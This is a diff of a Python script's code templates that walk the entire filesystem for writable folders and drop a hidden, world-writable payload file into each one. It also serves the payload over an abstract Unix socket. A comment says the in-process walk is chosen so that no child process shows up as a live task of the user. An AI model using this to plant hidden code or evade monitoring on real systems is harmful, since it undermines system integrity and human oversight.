@@ -19,17 +19,26 @@ from typing import Dict, Tuple
 
 SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine(), 60)
 
-# Every folder this uid may write: GNU find where there is one, else the usual places.
+# Every folder this uid may write, walked in this process (a child process would show a live task of the uid).
 WRITABLE = """
 def writable_folders():
-    import subprocess
-    try:
-        out = subprocess.run(["find", "/", "(", "-path", "/proc", "-o", "-path", "/sys", ")", "-prune", "-o",
-                              "-type", "d", "-writable", "-print0"], capture_output=True, timeout=30).stdout
-        found = [f for f in out.decode(errors="replace").split("\\0") if f]
-    except (OSError, subprocess.SubprocessError):
-        found = []
-    return found or [f for f in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock") if os.access(f, os.W_OK)]
+    found, stack = [], ["/"]
+    while stack:
+        folder = stack.pop()
+        try:
+            entries = list(os.scandir(folder))
+        except OSError:
+            continue
+        for entry in entries:
+            try:
+                if entry.path in ("/proc", "/sys") or not entry.is_dir(follow_symlinks=False):
+                    continue
+            except OSError:
+                continue
+            stack.append(entry.path)
+            if os.access(entry.path, os.W_OK):
+                found.append(entry.path)
+    return found
 """
 
 FILES = (
@@ -147,14 +156,14 @@ folders = writable_folders()
 def serve(key, code):
     for folder in folders:
         try:
-            with open(os.path.join(folder, f".{NAME}-{key}"), "wb") as handle:
+            with open(os.path.join(folder, f".NAME-{key}"), "wb") as handle:
                 handle.write(code)
-            os.chmod(os.path.join(folder, f".{NAME}-{key}"), 0o666)
+            os.chmod(os.path.join(folder, f".NAME-{key}"), 0o666)
         except OSError:
             pass
     server = socket.socket(socket.AF_UNIX)
     try:
-        server.bind(f"\\0{NAME}-{key}")
+        server.bind(f"\\0NAME-{key}")
     except OSError:
         return  # another box serves it already
     server.listen(8)
